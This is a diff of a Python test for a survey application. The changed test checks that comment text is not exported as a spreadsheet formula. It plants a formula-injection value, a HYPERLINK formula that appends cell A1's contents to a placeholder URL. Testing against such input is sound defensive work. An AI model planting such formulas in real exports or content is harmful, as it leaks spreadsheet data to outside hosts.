@@ -122,7 +122,9 @@ def test_only_analysts_get_items_and_flags(cast: Cast, told_survey: Survey) -> N
     assert analyst - staff == {"Butir", "Mutu jawaban"}
 
 
-def test_no_text_becomes_a_formula(cast: Cast, told_survey: Survey) -> None:
+def test_no_text_becomes_a_formula(cast: Cast) -> None:
+    with_colleagues(cast, 7)
+    told_survey = published(opened(cast, "process"), {cast.delima: 11})
     wicked = '=HYPERLINK("http://example.org/"&A1)'
     Comment.objects.create(survey=told_survey, item="TERBUKA", text=wicked)
     services.plan_initiative(
